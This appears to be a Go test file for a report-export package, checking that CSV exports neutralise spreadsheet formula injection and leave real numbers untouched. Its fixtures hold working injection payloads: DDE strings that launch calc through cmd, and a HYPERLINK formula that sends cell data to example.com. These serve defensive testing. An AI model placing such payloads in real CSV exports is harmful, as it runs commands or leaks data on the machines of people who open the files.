package export

import (
	"database/sql"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"os"
	"path/filepath"
	"slices"
	"testing"
	"time"

	"sheetq/jobs"
	"sheetq/store"
	"sheetq/store/sqlite"
)

// neutralise quotes exactly the fields that start with = + - @, a tab or a CR, wherever
// the field starts in the line, and leaves the line before it alone.
func TestNeutralise(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ field, want string }{
		{"=1+2", "'=1+2"},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"-12", "'-12"},
		{"=", "'="},
		{"a=b", "a=b"},
		{"'already", "'already"},
		{"'=1", "'=1"},
		{" =1", " =1"},
		{"x\n=1", "x\n=1"},
		{"1-2", "1-2"},
		{"", ""},
		{"Grüße", "Grüße"},
		{"＝1", "＝1"}, // a fullwidth equals sign is not one of them
	} {
		for _, prefix := range []string{"", "a,b,"} {
			line := []byte(prefix + tc.field)
			if got := string(neutralise(line, len(prefix))); got != prefix+tc.want {
				t.Errorf("neutralise(%q, %d) = %q, want %q", prefix+tc.field, len(prefix), got, prefix+tc.want)
			}
		}
	}
	// The quote goes in place, within the line's capacity when there is room.
	line := make([]byte, 0, 16)
	line = append(line, "x,=1"...)
	if got := string(neutralise(line, 2)); got != "x,'=1" {
		t.Errorf("in place: %q", got)
	}
}

// Which values are text: strings and bytes, and a type no source sends; never numbers,
// booleans or times, whatever their sign.
func TestIsText(t *testing.T) {
	t.Parallel()
	for _, v := range []any{"-5", []byte("=x"), "", struct{}{}} {
		if !isText(v) {
			t.Errorf("isText(%#v) = false, want true", v)
		}
	}
	for _, v := range []any{nil, int64(-5), -5, int8(-5), int16(-5), int32(-5), uint(5), uint8(5), uint16(5), uint32(5), uint64(5),
		-1.5e3, float32(-1.5), true, time.Date(-1, 1, 1, 0, 0, 0, 0, time.UTC)} {
		if isText(v) {
			t.Errorf("isText(%#v) = true, want false", v)
		}
	}
}

// formulaCellsDB is a SQLite file whose text column holds every character a formula
// starts with, and harmless text, beside negative numbers in REAL and INTEGER columns.
// Its code column is text that a report's column line types as a number: "-12"
// converts, the formula does not and stays text.
func formulaCellsDB(t *testing.T) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "cells.db")
	db, err := sql.Open("sqlite", path)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	if _, err := db.Exec(`CREATE TABLE cells (id INTEGER PRIMARY KEY, note TEXT, amount REAL, qty INTEGER, code TEXT)`); err != nil {
		t.Fatal(err)
	}
	for _, row := range [][]any{
		{"=1+2", -5.0, -5, `=HYPERLINK("http://example.com/?d="&A1,"click")`},
		{"+cmd|' /C calc'!A0", -1.5e3, -1, "-12"},
		{"-2+3", -0.25, 0, "ok"},
		{"@SUM(A1)", 12.5, 3, nil},
		{"\tx", nil, nil, nil},
		{"\rx", nil, nil, nil},
		{"a=b", nil, nil, nil},
		{"'already", nil, nil, nil},
		{"", nil, nil, nil},
		{"-12", nil, nil, nil},
		{nil, nil, nil, nil},
		{"x\n=1", nil, nil, nil},
	} {
		if _, err := db.Exec(`INSERT INTO cells (note, amount, qty, code) VALUES (?, ?, ?, ?)`, row...); err != nil {
			t.Fatal(err)
		}
	}
	return path
}

// formulaLedgerDir is a folder for a csv source: ledger.csv, whose balance column holds
// only numbers (so it is a number column) and whose ref column mixes "-12" with text
// (so it is a text column, and "-12" in it is text).
func formulaLedgerDir(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	data := "name,balance,ref\r\n=cmd|' /C calc'!A0,-5,-12\r\nBob,-1.5e3,A-1\r\n@Ann,0,\r\n"
	if err := os.WriteFile(filepath.Join(dir, "ledger.csv"), []byte(data), 0o644); err != nil {
		t.Fatal(err)
	}
	return dir
}

// A csv export of text a spreadsheet would run, through the engine from real SQLite and
// csv sources, read back by Python's csv module field for field: by default every text
// field (and label) starting with = + - @, a tab or a CR has a ' in front, text that
// only looks like a negative number included, while numbers typed as numbers (REAL,
// INTEGER, a csv column of numbers, a text column a column line types as a number) are
// written as they are; with csv_formulas "keep" every field is the source's.
func TestCSVFormulasReadBackByPython(t *testing.T) {
	t.Parallel()
	python3(t) // before the engine starts: without python the test skips
	dir := t.TempDir()
	st, err := sqlite.Open(t.Context(), filepath.Join(dir, "sheetq.db"), sqlite.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	cells, err := OpenSource("cells", SourceConfig{Driver: "sqlite", Path: formulaCellsDB(t)}, dir)
	if err != nil {
		t.Fatal(err)
	}
	defer cells.(io.Closer).Close()
	ledger, err := OpenSource("ledger", SourceConfig{Driver: "csv", Path: formulaLedgerDir(t)}, dir)
	if err != nil {
		t.Fatal(err)
	}
	defer ledger.(io.Closer).Close()
	reports := reportSet{
		{ID: "cells", Title: "Cells", Source: "cells", Sheet: "Cells", Params: []Param{},
			Query:   `SELECT note AS "@note", amount, qty, code FROM cells ORDER BY id`,
			Columns: []ColumnSpec{{Name: "code", Type: TypeNumber}}},
		{ID: "ledger", Title: "Ledger", Source: "ledger", Sheet: "Ledger", Params: []Param{},
			Query: `SELECT name, balance, ref FROM ledger`},
	}
	kind := New(Config{TmpDir: filepath.Join(dir, "spill"), Library: reports,
		Sources: map[string]Source{"cells": cells, "ledger": ledger}})
	changed := make(chan struct{}, 1)
	exportsDir := filepath.Join(dir, "exports")
	eng := jobs.New(st, jobs.Config{Workers: 1, TmpDir: filepath.Join(dir, "tmp"), ExportsDir: exportsDir,
		Logger: slog.New(slog.DiscardHandler), OnChange: wakeUp(changed)})
	eng.Register(Name, kind)
	if err := eng.Start(t.Context()); err != nil {
		t.Fatal(err)
	}
	defer eng.Stop()

	hyperlink := `=HYPERLINK("http://example.com/?d="&A1,"click")`
	want := map[string]map[string][][]string{
		"cells": {
			CSVNeutralise: {
				{"'@note", "amount", "qty", "code"},
				{"'=1+2", "-5", "-5", "'" + hyperlink},
				{"'+cmd|' /C calc'!A0", "-1500", "-1", "-12"},
				{"'-2+3", "-0.25", "0", "ok"},
				{"'@SUM(A1)", "12.5", "3", ""},
				{"'\tx", "", "", ""},
				{"'\rx", "", "", ""},
				{"a=b", "", "", ""},
				{"'already", "", "", ""},
				{"", "", "", ""},
				{"'-12", "", "", ""},
				{"", "", "", ""},
				{"x\n=1", "", "", ""},
			},
			CSVKeep: {
				{"@note", "amount", "qty", "code"},
				{"=1+2", "-5", "-5", hyperlink},
				{"+cmd|' /C calc'!A0", "-1500", "-1", "-12"},
				{"-2+3", "-0.25", "0", "ok"},
				{"@SUM(A1)", "12.5", "3", ""},
				{"\tx", "", "", ""},
				{"\rx", "", "", ""},
				{"a=b", "", "", ""},
				{"'already", "", "", ""},
				{"", "", "", ""},
				{"-12", "", "", ""},
				{"", "", "", ""},
				{"x\n=1", "", "", ""},
			},
		},
		"ledger": {
			CSVNeutralise: {
				{"name", "balance", "ref"},
				{"'=cmd|' /C calc'!A0", "-5", "'-12"},
				{"Bob", "-1500", "A-1"},
				{"'@Ann", "0", ""},
			},
			CSVKeep: {
				{"name", "balance", "ref"},
				{"=cmd|' /C calc'!A0", "-5", "-12"},
				{"Bob", "-1500", "A-1"},
				{"@Ann", "0", ""},
			},
		},
	}
	for _, report := range []string{"cells", "ledger"} {
		for _, mode := range []string{CSVNeutralise, CSVKeep} {
			t.Run(report+"/"+mode, func(t *testing.T) {
				args, err := kind.Validate(report, nil)
				if err != nil {
					t.Fatal(err)
				}
				if args, err = args.WithFile(FileOptions{Format: FormatCSV, CSVFormulas: mode}); err != nil {
					t.Fatal(err)
				}
				j := runArgs(t, eng, st, args, changed)
				if j.Status != store.StatusSucceeded {
					t.Fatalf("job %s: %s %s", j.Status, j.ErrorCode, j.ErrorMessage)
				}
				path := jobs.FilePath(exportsDir, j.FileName)
				bom, got := pyReadCSV(t, path)
				if bom {
					t.Error("the file starts with a BOM, which nobody asked for")
				}
				w := want[report][mode]
				if len(got) != len(w) {
					t.Fatalf("python read %d records, want %d: %q", len(got), len(w), got)
				}
				for i := range w {
					if !slices.Equal(got[i], w[i]) {
						t.Errorf("record %d = %q, want %q", i, got[i], w[i])
					}
				}
			})
		}
	}
}

// reportSet is a Library of a few reports.
type reportSet []Report

func (l reportSet) Report(id string) (Report, error) {
	for _, r := range l {
		if r.ID == id {
			return r, nil
		}
	}
	return Report{}, fmt.Errorf("%w %q", ErrUnknownReport, id)
}

// runArgs enqueues an export of args on the started eng and returns the job once it is
// final; the engine's OnChange feeds changed (wakeUp).
func runArgs(t *testing.T, eng *jobs.Engine, st *store.Store, args Args, changed <-chan struct{}) store.Job {
	t.Helper()
	raw, err := json.Marshal(args)
	if err != nil {
		t.Fatal(err)
	}
	j, _, err := eng.Enqueue(t.Context(), store.NewJob{Kind: Name, Args: raw})
	if err != nil {
		t.Fatal(err)
	}
	return waitFinal(t, st, j.ID, changed)
}
